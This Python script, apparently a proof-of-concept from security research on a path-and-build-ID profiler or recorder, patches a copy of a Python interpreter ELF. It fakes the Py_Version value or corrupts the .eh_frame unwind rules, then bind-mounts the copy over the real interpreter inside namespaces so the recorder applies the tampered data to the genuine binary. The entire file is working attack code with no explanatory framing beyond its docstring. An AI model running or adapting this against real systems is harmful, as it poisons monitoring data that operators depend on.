# SPDX-License-Identifier: Apache-2.0
"""Maps a changed copy of another program's interpreter at its path and with its build ID, before that program starts.

A recorder that knows files by path and build ID applies what it read in the copy to the real one. version: the copy
says that it is a version that nobody knows. unwind: its rules to unwind are wrong.

usage: poison.py SECONDS INTERPRETER version|unwind
"""
import mmap
import os
import struct
import sys
import time

import attack
import namespaces

seconds, interpreter, what = float(sys.argv[1]), os.path.realpath(sys.argv[2]), sys.argv[3]


def sections(data):
    """{name: (type, address, offset, size, link)} of a 64-bit ELF file."""
    table, = struct.unpack_from("<Q", data, 40)
    count, names = struct.unpack_from("<HH", data, 60)
    rows = [struct.unpack_from("<IIQQQQII", data, table + 64 * i) for i in range(count)]
    text = rows[names][4]
    return {data[text + r[0]:data.index(b"\0", text + r[0])].decode(): (r[1], r[3], r[4], r[5], r[6]) for r in rows}


def change_version(data):
    """Puts 3.99 where the exported variable Py_Version is."""
    found = sections(data)
    _, _, at, size, _ = found[".dynsym"]
    strings = found[".dynstr"][2]
    for symbol in range(at, at + size, 24):
        name, _, _, value, _ = struct.unpack_from("<IBxHQQ", data, symbol)
        if data[strings + name:strings + name + 11] == b"Py_Version\0":
            segment = next(s for s in found.values() if s[0] != 8 and 0 < s[1] <= value < s[1] + s[3])
            struct.pack_into("<I", data, value - segment[1] + segment[2], 0x036300f0)
            return
    sys.exit("no Py_Version")


def change_rules(data):
    """Turns rules of the kind "the frame's address is the stack pointer and so much" (def_cfa_offset) into wrong ones."""
    _, _, at, size, _ = sections(data)[".eh_frame"]
    for i in range(at, at + size - 2):
        if data[i] == 0x0e and 8 <= data[i + 1] < 128 and data[i + 1] % 8 == 0:
            data[i + 1] = 120


with open(interpreter, "rb") as f:
    contents = bytearray(f.read())
change_version(contents) if what == "version" else change_rules(contents)
copy = os.path.abspath(f"copy-{what}")
with open(copy, "wb") as f:
    f.write(contents)
os.chmod(copy, 0o755)
namespaces.enter()
namespaces.bind(copy, interpreter)
attack.wait_for_go()
with open(interpreter, "rb") as f:
    mapped = mmap.mmap(f.fileno(), 1 << 20, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_EXEC)
    if what == "unwind":
        # A recorder reads the rules when the file is executed.
        os.execv(interpreter, [interpreter, "-c", "import sys, time\nstop = time.time() + float(sys.argv[1])\n"
                               "while time.time() < stop:\n  for _ in range(20000): pass", str(seconds)])
    time.sleep(seconds)
